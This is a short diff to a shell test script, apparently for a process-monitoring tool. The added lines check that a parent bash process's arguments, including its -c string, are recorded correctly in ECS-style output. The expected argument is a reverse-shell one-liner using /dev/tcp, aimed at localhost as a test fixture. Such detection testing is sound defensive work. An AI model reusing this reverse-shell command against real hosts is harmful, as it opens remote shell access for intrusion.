@@ -117,6 +117,11 @@ for dir in "$(mktemp -d "$SW_TMP/cwd dir.XXXXXX")" "$shm/sub dir"; do
 		test "$(field "$a" process.working_directory)" = "$dir"
 	check "process.parent.working_directory is its parent's ($(field "$a" process.parent.working_directory))" \
 		test "$(field "$a" process.parent.working_directory)" = "$dir"
+	# the parent's arguments as bash got them: its -c string is one argument, spaces and all
+	pargs=$(python3 -c 'import json,sys; sys.path.insert(0, sys.argv[2]); from ecs_flat import field; print(json.dumps(field(json.loads(sys.argv[1]), "process.parent.args")))' "$a" "$SW_ROOT/tests/shells")
+	want=$(python3 -c 'import json,sys; print(json.dumps(["bash", "-c", sys.argv[1]]))' \
+		"bash -i >& /dev/tcp/127.0.0.1/$portc 0>&1; :")
+	check "process.parent.args are bash's three arguments ($pargs)" test "$pargs" = "$want"
 	wait_until 10 pid_gone "$SHELL_PID" 2>/dev/null || true
 done
 rm -rf "$shm"
